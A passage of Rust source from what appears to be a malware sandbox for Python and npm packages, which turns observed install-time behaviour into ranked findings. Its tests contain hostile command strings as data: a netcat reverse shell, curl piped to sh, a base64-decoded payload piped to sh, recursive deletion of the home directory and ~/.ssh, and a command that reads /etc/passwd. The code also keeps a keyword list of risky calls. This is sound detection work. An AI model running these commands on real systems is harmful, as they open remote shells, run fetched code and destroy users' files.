            continue;
        }
        steps.push(Step {
            s: ChainStep {
                t: r.t,
                phase,
                layer: Layer::Network,
                kind: kind.into(),
                file,
                line,
                what,
                canaries: hits,
                detail: None,
                stack: Vec::new(),
                confirmed: !unattributed,
                unattributed,
                count: 1,
            },
            key,
        });
    }

    // 4. Start-up hooks the install left behind (seen in the file system).
    let install_end = raw.phases.first().map_or(0.0, |p| p.2);
    for (name, text) in &raw.startup_hooks {
        if setuptools_nspkg(name, text) {
            continue;
        }
        let line = text
            .lines()
            .position(|l| l.starts_with("import"))
            .and_then(|i| u32::try_from(i + 1).ok());
        steps.push(Step {
            s: ChainStep {
                t: install_end,
                phase: Phase::Install,
                layer: Layer::System,
                kind: "write".into(),
                file: Some(name.clone()),
                line,
                what: format!(
                    "installs site-packages/{name}, which runs at every Python start: `{}`",
                    short(
                        text.lines()
                            .find(|l| l.starts_with("import"))
                            .unwrap_or(text),
                        160
                    )
                ),
                canaries: Vec::new(),
                detail: Some(short(text, 2000)),
                stack: Vec::new(),
                confirmed: false,
                unattributed: false,
                count: 1,
            },
            key: String::new(),
        });
    }

    // 5. Fold duplicates (pip runs setup.py more than once), order by time.
    steps.sort_by(|a, b| a.s.t.total_cmp(&b.s.t));
    let mut folded: Vec<Step> = Vec::new();
    for s in steps {
        if let Some(f) = folded.iter_mut().find(|f| {
            f.s.kind == s.s.kind
                && f.s.file == s.s.file
                && f.s.line == s.s.line
                && f.s.what == s.s.what
                && f.s.layer == s.s.layer
        }) {
            f.s.count += 1;
            f.s.confirmed |= s.s.confirmed;
            continue;
        }
        folded.push(s);
    }

    let findings = findings(&raw, &folded);
    let mut stories = stories(&folded);
    if !raw.npm_dropped.is_empty() {
        stories.push(format!(
            "installed without its {} declared dependencies ({}): the sandbox has no npm registry, so a `require` of them fails at run time",
            raw.npm_dropped.len(),
            short(&raw.npm_dropped.join(", "), 200)
        ));
    }
    let phases: Vec<_> = raw.phases.iter().map(|p| p.0.clone()).collect();
    let install_import_ms = phases
        .iter()
        .filter(|p| p.phase != Phase::Execute)
        .map(|p| p.duration_ms)
        .sum();
    let mut network = raw.net.clone();
    for n in &mut network {
        n.raw.clear();
    }
    SandboxReport {
        target: raw.target.clone(),
        ecosystem: raw.ecosystem,
        phases,
        limits_hit: raw.limits.clone(),
        chain: folded.into_iter().map(|s| s.s).collect(),
        stories,
        network,
        findings,
        canaries,
        identity: (raw.bait.hostname.clone(), raw.bait.user.clone()),
        install_import_ms,
    }
}

fn at(s: &ChainStep) -> String {
    match (&s.file, s.line) {
        (Some(f), Some(l)) => format!("{f}:{l}"),
        (Some(f), None) => f.clone(),
        _ => "(unattributed)".into(),
    }
}

/// One sentence per exfiltration/egress: what the same file gathered
/// before, then where it sent it. `setup.py:27 collects hostname, user →
/// setup.py:44 POSTs them to …`.
fn stories(steps: &[Step]) -> Vec<String> {
    let mut out = Vec::new();
    for (i, s) in steps.iter().enumerate() {
        let net = s.s.layer == Layer::Network && s.s.kind != "dns"
            || (s.s.kind == "dns" && !s.s.canaries.is_empty());
        if !net {
            continue;
        }
        let mut gathered: Vec<String> = Vec::new();
        for p in steps.iter().take(i) {
            if p.s.file.is_some()
                && p.s.file == s.s.file
                && matches!(
                    p.s.kind.as_str(),
                    "recon"
                        | "read-secret"
                        | "env-secret"
                        | "env-dump"
                        | "exec"
                        | "dynamic-code"
                        | "write"
                )
            {
                let g = format!("{} {}", at(&p.s), p.s.what);
                if !gathered.contains(&g) {
                    gathered.push(g);
                }
            }
        }
        let canary = if s.s.canaries.is_empty() {
            String::new()
        } else {
            format!(
                " (canary: {})",
                s.s.canaries
                    .iter()
                    .map(|c| format!("{} via {}", c.label, c.encoding))
                    .collect::<Vec<_>>()
                    .join(", ")
            )
        };
        let mut parts = gathered.into_iter().take(6).collect::<Vec<_>>();
        parts.push(format!("{} {}{canary}", at(&s.s), s.s.what));
        out.push(parts.join(" → "));
    }
    out.dedup();
    out
}

fn finding(
    rule: RuleCode,
    name: &str,
    sev: Severity,
    conf: Confidence,
    s: &ChainStep,
    msg: String,
) -> Finding {
    let mut f = Finding::new(rule, name, sev, conf, msg)
        .install_time(matches!(s.phase, Phase::Install | Phase::Import))
        .evidence(format!("phase: {}", s.phase.as_str()))
        .evidence(
            format!(
                "seen by: {:?}{}",
                s.layer,
                if s.confirmed {
                    " (confirmed by the other view)"
                } else {
                    ""
                }
            )
            .to_lowercase(),
        );
    if let Some(file) = &s.file {
        f = f.at(file, s.line.unwrap_or(0), 0);
    }
    if s.count > 1 {
        f = f.evidence(format!("times: {}", s.count));
    }
    f
}

#[allow(clippy::too_many_lines)]
fn findings(raw: &Raw, steps: &[Step]) -> Vec<Finding> {
    let mut out: Vec<Finding> = Vec::new();
    let install = |s: &ChainStep| s.phase == Phase::Install;
    // Environment reads per file:line: (a whole walk there, secret names read).
    type At<'a> = (Option<&'a str>, Option<u32>);
    let mut env_at: HashMap<At, (bool, usize)> = HashMap::new();
    for o in steps {
        let e = env_at.entry((o.s.file.as_deref(), o.s.line)).or_default();
        e.0 |= o.s.kind == "env-dump";
        e.1 += usize::from(o.s.kind == "env-secret");
    }
    let mut env_copy_reported: Vec<At> = Vec::new();
    for st in steps {
        let s = &st.s;
        let (walked, secrets) = env_at
            .get(&(s.file.as_deref(), s.line))
            .copied()
            .unwrap_or_default();
        let f = match s.kind.as_str() {
            _ if !s.canaries.is_empty() => {
                let labels: Vec<String> = s
                    .canaries
                    .iter()
                    .map(|c| format!("{} from {} ({})", c.label, c.planted, c.encoding))
                    .collect();
                let mut f = finding(
                    crate::analyze::rules::CANARY_EXFIL,
                    "canary-exfiltration",
                    Severity::Critical,
                    Confidence::High,
                    s,
                    format!(
                        "sends planted secrets out of the sandbox: {}",
                        s.canaries
                            .iter()
                            .map(|c| c.label.as_str())
                            .collect::<Vec<_>>()
                            .join(", ")
                    ),
                )
                .excerpt(&s.what);
                for l in labels {
                    f = f.evidence(format!("canary: {l}"));
                }
                Some(f)
            }
            "http" | "tls" | "send" | "connect" if s.layer == Layer::Network => Some(
                finding(
                    rules::OUTBOUND,
                    "outbound-connection",
                    if install(s) {
                        Severity::High
                    } else {
                        Severity::Medium
                    },
                    Confidence::High,
                    s,
                    format!(
                        "opens a network connection at {}: {}",
                        s.phase.as_str(),
                        short(&s.what, 160)
                    ),
                )
                .excerpt(&s.what),
            ),
            "dns" if s.layer == Layer::Network => {
                let name = s.what.rsplit(' ').next().unwrap_or("");
                let long = name.split('.').any(|l| l.len() > 30) || name.len() > 80;
                Some(
                    finding(
                        rules::DNS_ONLY,
                        if long {
                            "dns-exfiltration"
                        } else {
                            "dns-query"
                        },
                        if long {
                            Severity::High
                        } else {
                            Severity::Medium
                        },
                        if long {
                            Confidence::High
                        } else {
                            Confidence::Medium
                        },
                        s,
                        format!(
                            "looks up {} with no connection after it (beacon or DNS exfiltration)",
                            short(name, 160)
                        ),
                    )
                    .excerpt(name),
                )
            }
            "read-secret" => Some(finding(
                rules::SECRET_FILE,
                "reads-secret-file",
                Severity::High,
                Confidence::High,
                s,
                format!("reads a credential file: {}", s.what),
            )),
            // Walking the whole environment is what config loaders do
            // (tqdm looks for TQDM_*): low, and the keys the walk touched
            // at that line are part of it. A secret read by name is medium;
            // a secret that leaves is DYN701.
            "env-secret" if walked => None,
            // Three or more secret names read at one line is a copy of the
            // environment (`os.environ.copy()` for a child process): one
            // low finding, at the first of them.
            "env-secret" if secrets >= 3 => {
                let at = (s.file.as_deref(), s.line);
                (!env_copy_reported.contains(&at)).then(|| {
                    env_copy_reported.push(at);
                    finding(
                        rules::SECRET_ENV,
                        "reads-secret-env",
                        Severity::Low,
                        Confidence::Medium,
                        s,
                        "reads secrets from the environment: copies the whole environment"
                            .to_owned(),
                    )
                })
            }
            "env-secret" | "env-dump" => Some(finding(
                rules::SECRET_ENV,
                "reads-secret-env",
                if s.kind == "env-dump" {
                    Severity::Low
                } else {
                    Severity::Medium
                },
                Confidence::Medium,
                s,
                format!("reads secrets from the environment: {}", s.what),
            )),
            "exec" if s.layer == Layer::Runtime && s.file.as_deref() != Some("package.json") => {
                let dl = DOWNLOADERS.iter().any(|d| mentions_tool(&s.what, d));
                let lower = s.what.to_ascii_lowercase();
                if WIN_TOOLS.iter().any(|t| mentions_tool(&lower, t)) {
                    push(
                        &mut out,
                        finding(
                            rules::WINDOWS,
                            "windows-payload",
                            Severity::High,
                            Confidence::High,
                            s,
                            format!("starts a Windows program or tool: {}", short(&s.what, 160)),
                        )
                        .excerpt(&s.what),
                    );
                }
                if wipes(&s.what) {
                    push(&mut out, wipe_finding(s));
                }
                let build = !dl && build_step(&s.what);
                Some(
                    finding(
                        rules::SPAWN,
                        if dl {
                            "spawns-network-tool"
                        } else if build {
                            "spawns-build-tool"
                        } else {
                            "spawns-process"
                        },
                        if dl {
                            Severity::High
                        } else if build {
                            Severity::Low
                        } else {
                            Severity::Medium
                        },
                        Confidence::High,
                        s,
                        format!("starts a process: {}", short(&s.what, 160)),
                    )
                    .excerpt(&s.what),
                )
            }
            "dynamic-code" => {
                if s.what.contains(raw.marker.as_str()) {
                    Some(
                        finding(
                            rules::DOWNLOAD_EXEC,
                            "download-and-execute",
                            Severity::Critical,
                            Confidence::High,
                            s,
                            "executes code it fetched from the network".to_owned(),
                        )
                        .excerpt(&s.what),
                    )
                } else {
                    // What the assembled code does, not what its data
                    // mentions: a JSON-schema validator compiled at run
                    // time quotes `http://json-schema.org/…`.
                    let risky = [
                        "socket",
                        "urllib",
                        "urlopen",
                        "http.client",
                        "httplib",
                        "requests.",
                        "subprocess",
                        "os.system",
                        "os.popen",
                        "exec(",
                        "eval(",
                        "require(",
                        "child_process",
                        "base64",
                        "b64decode",
                        "marshal",
                        "zlib",
                        "__import__",
                        "ctypes",
                        "webhook",
                        "open(",
                    ]
                    .iter()
                    .any(|k| s.what.contains(k));
                    // Code that calls none of these (a template engine's
                    // `eval("typeobj")`, a compiled validator) is low.
                    Some(
                        finding(
                            rules::DYNAMIC_CODE,
                            "runs-dynamic-code",
                            if risky { Severity::High } else { Severity::Low },
                            Confidence::High,
                            s,
                            "runs code assembled at run time (decoded source in excerpt)"
                                .to_owned(),
                        )
                        .excerpt(s.detail.as_deref().unwrap_or(&s.what))
                        .evidence(format!(
                            "decoded source: {}",
                            short(s.detail.as_deref().unwrap_or(""), 1000)
                        )),
                    )
                }
            }
            "write" => Some(finding(
                rules::PERSISTENCE,
                "persistence-write",
                Severity::High,
                Confidence::High,
                s,
                format!("writes a file that runs later: {}", s.what),
            )),
            "drop-exe" => Some(finding(
                rules::WINDOWS,
                "windows-payload",
                Severity::High,
                Confidence::High,
                s,
                format!("drops a Windows program: {}", s.what),
            )),
            "windows" => {
                let risky = WIN_RISKY.iter().any(|k| s.what.contains(k));
                // Other Windows calls (console colours, handles, a hidden
                // window for `git version`, an import) are what portable
                // libraries do on Windows; what the hidden process is shows
                // in its own finding.
                Some(
                    finding(
                        rules::WINDOWS,
                        "windows-payload",
                        if risky { Severity::High } else { Severity::Low },
                        Confidence::High,
                        s,
                        format!("acts as on Windows: {}", short(&s.what, 200)),
                    )
                    .excerpt(&s.what),
                )
            }
            "missing-module" => Some(
                finding(
                    rules::MISSING_MODULE,
                    "missing-module",
                    Severity::Low,
                    Confidence::Medium,
                    s,
                    format!(
                        "{} — what the code meant to do after this was not seen",
                        s.what
                    ),
                )
                .excerpt(&s.what),
            ),
            "kill" => Some(
                finding(
                    rules::KILL,
                    "kills-processes",
                    Severity::Medium,
                    Confidence::High,
                    s,
                    s.what.clone(),
                )
                .excerpt(&s.what),
            ),
            // One finding per line however many files a tree held.
            "delete" if s.what.strip_prefix("deletes ").is_some_and(user_file) => {
                Some(wipe_finding(s))
            }
            "native-load" => Some(finding(
                rules::NATIVE,
                "loads-native-code",
                Severity::Low,
                Confidence::Medium,
                s,
                s.what.clone(),
            )),
            _ => None,
        };
        if let Some(f) = f {
            push(&mut out, f);
        }
        if s.unattributed && s.layer == Layer::System {
            // A compiler or `uname -p` (platform.processor()) that a build
            // ran with no runtime record is still only a build step.
            let build = s.kind == "exec"
                && (build_step(&s.what)
                    || s.what.trim_start_matches("runs `").starts_with("uname"));
            push(
                &mut out,
                finding(
                    rules::UNATTRIBUTED,
                    "unattributed-system-event",
                    if build {
                        Severity::Low
                    } else {
                        Severity::Medium
                    },
                    Confidence::Medium,
                    s,
                    format!("seen only outside the runtimes: {}", short(&s.what, 160)),
                )
                .excerpt(&s.what),
            );
        }
    }
    // A flow with no runtime record at all (curl from a shell, native code).
    for st in steps
        .iter()
        .filter(|s| s.s.layer == Layer::Network && s.s.unattributed && s.s.kind != "dns")
    {
        push(
            &mut out,
            finding(
                rules::UNATTRIBUTED,
                "unattributed-network-flow",
                Severity::Medium,
                Confidence::Medium,
                &st.s,
                format!(
                    "network flow no runtime record explains: {}",
                    short(&st.s.what, 160)
                ),
            ),
        );
    }
    for (i, path) in &raw.started_served {
        let Some(e) = raw.app.get(*i) else {
            continue;
        };
        let (file, line, _) = locate(e.culprit.as_deref().unwrap_or(""));
        let phase = phase_of(raw, e.t);
        let mut f = Finding::new(
            rules::DOWNLOAD_EXEC,
            "download-and-execute",
            Severity::Critical,
            Confidence::High,
            format!(
                "starts {}, a file that holds what the network served it",
                tilde(raw, path)
            ),
        )
        .at(&file, line, 0)
        .excerpt(&tilde(raw, path))
        .evidence(format!("phase: {}", phase.as_str()));
        f.install_time = matches!(phase, Phase::Install | Phase::Import);
        push(&mut out, f);
    }
    for (phase, name) in &raw.tampered {
        let mut f = Finding::new(
            rules::TAMPER,
            "hook-tampering",
            Severity::High,
            Confidence::High,
            format!(
                "changed or removed the sandbox's runtime hook ({name}) during {}: an evasion; later runtime records may be missing",
                phase.as_str()
            ),
        )
        .evidence(format!("file: site-packages/{name}"));
        f.install_time = matches!(phase, Phase::Install | Phase::Import);
        push(&mut out, f);
    }
    for l in &raw.limits {
        // Running out the clock is what a slow C build does too: alone it
        // is an unknown, not evidence. Fork bombs, disk and memory floods
        // are behaviour.
        let mut f = Finding::new(
            rules::LIMIT,
            "sandbox-limit",
            if l.limit == "wall-clock" {
                Severity::Low
            } else {
                Severity::Medium
            },
            Confidence::Medium,
            format!(
                "stopped at the {} limit during {}: {}",
                l.limit,
                l.phase.as_str(),
                l.detail
            ),
        )
        .evidence(format!("limit: {}", l.limit));
        f.install_time = matches!(l.phase, Phase::Install | Phase::Import);
        push(&mut out, f);
    }
    out.sort_by(|a, b| {
        b.severity
            .cmp(&a.severity)
            .then_with(|| a.rule.cmp(&b.rule))
    });
    out
}

/// DYN716 at `s`; message alike for every file, so `push` keeps one per line.
fn wipe_finding(s: &ChainStep) -> Finding {
    finding(
        rules::WIPE,
        "destroys-user-files",
        Severity::High,
        Confidence::High,
        s,
        "deletes the user's home or files in it".to_owned(),
    )
    .excerpt(&s.what)
}

fn push(out: &mut Vec<Finding>, f: Finding) {
    if out
        .iter()
        .any(|o| o.rule == f.rule && o.file == f.file && o.line == f.line && o.message == f.message)
    {
        return;
    }
    out.push(f);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tools_are_whole_words() {
        let gcc = "runs `/usr/bin/gcc -O3 -Isrc/lxml/includes -I/usr/include/libxml2 -c x.c`";
        assert!(!DOWNLOADERS.iter().any(|d| mentions_tool(gcc, d)));
        assert!(mentions_tool(
            "runs `/bin/sh -c nc -e /bin/sh 10.0.0.1 4444`",
            "nc"
        ));
        assert!(mentions_tool("runs `C:\\Windows\\curl.exe -o x`", "curl"));
        assert!(mentions_tool(
            "runs `bash -c 'curl -s http://x | sh'`",
            "curl"
        ));
        assert!(mentions_tool(
            "runs `echo aGk= | base64 -d | sh`",
            "base64 -d"
        ));
        assert!(mentions_tool("runs `x.exe`", ".exe"));
        assert!(!mentions_tool("runs `/usr/bin/wmicro --x`", "wmic"));
    }

    #[test]
    fn wipes_and_user_files() {
        assert!(wipes("runs `/bin/sh -c rm -rf ~/ /tmp/* 2>/dev/null`"));
        assert!(wipes("runs `rm -fr $HOME`"));
        assert!(wipes("runs `/bin/rm -r -f /`"));
        assert!(wipes("runs `rm -rf ~/.ssh`"));
        assert!(!wipes("runs `rm -rf build dist`"));
        assert!(!wipes("runs `rm -f ~/.cache/x`"));
        assert!(!wipes("runs `rm ~/.bashrc`"), "not recursive");
        assert!(!wipes("runs `gcc -o rm x.c`"));
        assert!(user_file("~") && user_file("~/.ssh/id_rsa") && user_file("~/Documents"));
        assert!(!user_file("~/.cache/pip/x") && !user_file("/tmp/pip-build/x"));
        assert!(!user_file("build/lib/x.py"));
        assert!(!user_file("~/AppData/Local/Temp/pip-req-build-x/build"));
    }

    #[test]
    fn setuptools_namespace_pth_is_recognised() {
        // What setuptools 80 writes for `namespace_packages=['google']`.
        let real = "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('google', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));m = m or sys.modules.setdefault('google', types.ModuleType('google'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)";
        assert!(setuptools_nspkg("g-1.0-py3.11-nspkg.pth", real));
        let child = real
            .replace("('google',)", "('google', 'cloud')")
            .replace("'google'", "'google.cloud'")
            + ";m and setattr(sys.modules['google'], 'cloud', m)";
        assert!(setuptools_nspkg(
            "g-1.0-py3.11-nspkg.pth",
            &format!("{real}\n{child}")
        ));
        let added = format!("{real}\nimport os; os.system('x')");
        assert!(!setuptools_nspkg("g-1.0-py3.11-nspkg.pth", &added));
        let inline = real.replace("mp.append(p)", "mp.append(p);os.system('x')");
        assert!(!setuptools_nspkg("g-1.0-py3.11-nspkg.pth", &inline));
        let assign = format!("{real};x = 1");
        assert!(!setuptools_nspkg("g-1.0-py3.11-nspkg.pth", &assign));
        assert!(!setuptools_nspkg("evil.pth", real));
        assert!(!setuptools_nspkg("g-nspkg.pth", ""));
    }

    #[test]
    fn build_steps_are_only_build_tools() {
        assert!(build_step("runs `/usr/bin/gcc -O3 -c x.c -o x.o`"));
        assert!(build_step("/bin/sh -c pkg-config --cflags libxml-2.0"));
        assert!(!build_step(
            "/bin/sh -c pkg-config --cflags x; curl http://x"
        ));
        assert!(!build_step("/bin/sh -c gcc $(cat /etc/passwd)"));
        assert!(!build_step("runs `/tmp/gcc-payload`"));
        assert!(!build_step("runs `python3 -c import os`"));
        assert!(!build_step(""));
    }

    #[test]
    fn host_port_forms() {
        assert_eq!(
            host_port("('175.24.100.2', 8000)"),
            Some(("175.24.100.2".into(), 8000))
        );
        assert_eq!(
            host_port(r#"{"host":"203.0.113.50","port":4444}"#),
            Some(("203.0.113.50".into(), 4444))
        );
        assert_eq!(host_port("garbage"), None);
    }

    #[test]
    fn spawn_texts_normalise() {
        let e = AppEvent {
            t: 0.0,
            pid: 1,
            node: false,
            api: "subprocess.Popen".into(),
            args: vec!["curl".into(), "['curl', '-s', 'http://x']".into()],
            culprit: None,
            chain: vec![],
            direct: true,
            lifecycle: None,
            spawns_lifecycle: None,
            via: None,
        };
        assert_eq!(spawn_text(&e).as_deref(), Some("curl -s http://x"));
    }
}
